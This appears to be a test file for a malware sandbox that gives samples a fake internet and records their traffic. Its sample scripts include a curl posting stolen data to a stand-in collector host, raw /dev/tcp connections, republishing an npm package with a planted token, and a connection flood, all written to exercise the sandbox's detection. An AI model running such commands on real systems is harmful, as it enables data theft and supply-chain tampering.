/** The real chamber: samples speak with the fake internet, and the records tell all of it. */
import assert from "node:assert/strict";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test, { after, before } from "node:test";
import { gzipSync } from "node:zlib";
import type { FileType } from "@thymus/contracts";
import { needs } from "@thymus/testkit";
import type { Chamber, ChamberResult, RegistryPackage, World } from "../chamber.ts";
import { emptyWorld, openChamber, plainConditions } from "../index.ts";
import { machineArguments } from "../machine/arguments.ts";
import { writeTar } from "../run/tar.ts";
import { chamberDir as dataDir, sharedChamber } from "../testing/shared.ts";

const skip = needs("qemu", "bwrap", "root", "apt");
let chamber: Chamber;
let temp: string;
let runs = 0;

before(
  async () => {
    if (skip) return;
    temp = await mkdtemp(join(tmpdir(), "thymus-internet-"));
    await sharedChamber();
    chamber = await openChamber({ dataDir });
  },
  { timeout: 1_200_000 },
);
after(async () => {
  if (skip) return;
  await chamber?.close();
  await rm(temp, { recursive: true, force: true });
});

async function run(text: string, type: FileType, world: Partial<World> = {}): Promise<ChamberResult> {
  const folder = join(temp, String(runs++));
  await mkdir(join(folder, "out"), { recursive: true });
  await writeFile(join(folder, "sample"), text);
  return chamber.run({
    sample: { path: join(folder, "sample"), name: "invoice", type },
    decoys: { seed: "", folder: "", decoys: [] },
    world: { ...emptyWorld, ...world },
    conditions: plainConditions,
    plan: null,
    drillPrograms: null,
    budgetSeconds: 300,
    outputDir: join(folder, "out"),
  });
}
const told = ({ network }: ChamberResult) =>
  network
    .filter(({ protocol }) => protocol !== "dns")
    .map(({ protocol, name, port, what }) => `${protocol} ${name} ${port} ${what}`);

function tarball(files: Readonly<Record<string, string>>): Buffer {
  const entries = Object.entries(files).map(([path, text]) => ({
    path,
    mode: 0o644,
    uid: 0,
    content: Buffer.from(text),
  }));
  return gzipSync(Buffer.concat([...writeTar(entries)]));
}

test("the machine has no network card", () => {
  const places = { kernel: "k", initramfs: "i", root: "r", memory: "m", input: "a", output: "b" };
  const args = machineArguments(places, { accelerator: "tcg", share: "off", incoming: true });
  assert.equal(args[args.indexOf("-nic") + 1], "none");
  assert.ok(args.includes("-nodefaults"));
  assert.ok(!args.some((arg) => /netdev|virtio-net|e1000|hubport|user,/.test(arg)));
});

test("web, mail, names, odd ports and datagrams are answered and recorded", { skip }, async () => {
  const sample = `#!/bin/bash
ls /sys/class/net | tr '\\n' ' '
curl -sS -d 'stolen=secret-of-the-user' http://collect.example.org/gate
curl -sS https://cdn.example.org/install.sh | head -1
exec 3<>/dev/tcp/198.51.100.7/31337; echo "hello there" >&3; head -1 <&3; exec 3>&-
exec 3<>/dev/tcp/mail.example.org/25; head -1 <&3 >/dev/null
printf 'EHLO x\\r\\nMAIL FROM:<a@b.c>\\r\\nRCPT TO:<d@e.f>\\r\\nDATA\\r\\nhi\\r\\n.\\r\\nQUIT\\r\\n' >&3; tail -1 <&3; exec 3>&-
echo datagram >/dev/udp/203.0.113.9/9999
python3 -c 'import socket; s = socket.create_server(("127.0.0.1", 8080)); c = socket.create_connection(("127.0.0.1", 8080)); s.accept()[0].send(b"own"); print(c.recv(9))'
ps ax | grep -cE 'node|gate'
`;
  const result = await run(sample, "shell");
  assert.match(
    result.output,
    /^eth0 lo \{"ok":true\}#!\/bin\/sh\nok\n221 2\.0\.0 Bye\r?\nb'own'\n/,
    result.output,
  );
  assert.deepEqual(told(result), [
    "http collect.example.org 80 POST /gate",
    "https cdn.example.org 443 GET /install.sh",
    "tcp null 31337 sent 12 bytes",
    "smtp mail.example.org 25 mail from a@b.c to d@e.f",
    "udp null 9999 sent 9 bytes",
  ]);
  assert.ok(result.network.some(({ what, address }) => what === "A collect.example.org" && address === ""));
  assert.ok(
    Buffer.from(result.network.find(({ port }) => port === 80)!.sent).includes("stolen=secret-of-the-user"),
  );
  assert.equal(result.networkLost, 0);
});

const npm = (name: string, version: string, more: object = {}): RegistryPackage => {
  const manifest = JSON.stringify({ name, version, main: "index.js", ...more });
  const content = tarball({ "package/package.json": manifest, "package/index.js": "module.exports = 1;\n" });
  return {
    ecosystem: "npm",
    name,
    version,
    owners: ["sam"],
    file: { name: `${name}-${version}.tgz`, content },
  };
};

test("npm installs with lifecycle scripts; a publish counts with the right token only", {
  skip,
}, async () => {
  const sample = `#!/bin/bash
mkdir app; cd app; echo '{"name":"app"}' >package.json
npm publish 2>&1 | grep -c EINVALIDPACKAGE
npm install pad --no-audit >/dev/null; cat ran; ls node_modules
cd node_modules/pad; sed -i 's/1.0.0/1.0.1/' package.json; echo '// more' >>index.js
echo '//registry.npmjs.org/:_authToken=npm_wrong' >~/.npmrc; npm publish 2>&1 | grep -c E401
echo '//registry.npmjs.org/:_authToken=npm_right' >~/.npmrc; npm publish
`;
  const packages = [
    npm("pad", "1.0.0", {
      scripts: { postinstall: 'echo $npm_package_name >"$INIT_CWD/ran"' },
      dependencies: { dep: "^2.0.0" },
    }),
    npm("dep", "2.1.0"),
  ];
  const result = await run(sample, "shell", {
    packages,
    tokens: { npm_right: { ecosystem: "npm", account: "sam" } },
  });
  assert.equal(result.output, "1\npad\ndep\npad\n1\n+ pad@1.0.1\n");
  assert.deepEqual(
    result.published.map(({ name, version, token, accepted, before }) => [
      name,
      version,
      token,
      accepted,
      before,
    ]),
    [
      ["pad", "1.0.1", "npm_wrong", false, "1.0.0"],
      ["pad", "1.0.1", "npm_right", true, "1.0.0"],
    ],
  );
  assert.deepEqual([...(await readFile(result.published[1]!.file)).subarray(0, 2)], [0x1f, 0x8b]);
  assert.ok(told(result).includes("https registry.npmjs.org 443 PUT /pad (publish 1.0.1, token npm_right)"));
});

test("pip installs from source, running setup.py; an upload is kept with its token", { skip }, async () => {
  const setup =
    "from setuptools import setup\nopen('/tmp/ran', 'w').write('x')\nsetup(name='thing', version='0.5', py_modules=['thing'])\n";
  const content = tarball({ "thing-0.5/setup.py": setup, "thing-0.5/thing.py": "print('imported')\n" });
  const file = { name: "thing-0.5.tar.gz", content };
  const sample = `#!/bin/bash
pip install thing >/dev/null; ls /tmp/ran; python3 -c 'import thing'
pip download thing==0.5 >/dev/null; mv thing-0.5.tar.gz thing-0.6.tar.gz
TWINE_PASSWORD=pypi-right python3 -m twine upload thing-0.6.tar.gz >/dev/null && echo up
`;
  const result = await run(sample, "shell", {
    packages: [{ ecosystem: "pypi", name: "thing", version: "0.5", owners: ["sam"], file }],
    tokens: { "pypi-right": { ecosystem: "pypi", account: "sam" } },
  });
  assert.equal(result.output, "/tmp/ran\nimported\nup\n");
  assert.deepEqual(
    result.published.map(({ ecosystem, version, token, accepted }) => [ecosystem, version, token, accepted]),
    [["pypi", "0.6", "pypi-right", true]],
  );
});

test("a flood of connections is counted and blinds nobody", { skip }, async () => {
  const sample = `import socket, urllib.request
for n in range(600):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((f"198.51.100.{n % 250}", 1000 + n))
    except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(3000): u.sendto(b"x" * 500, ("203.0.113.1", 7))
print(urllib.request.urlopen("http://after.example.org/x.json").read())
`;
  const result = await run(sample, "python");
  assert.match(result.output, /b'\{\}'/);
  assert.ok(told(result).includes("http after.example.org 80 GET /x.json"));
});
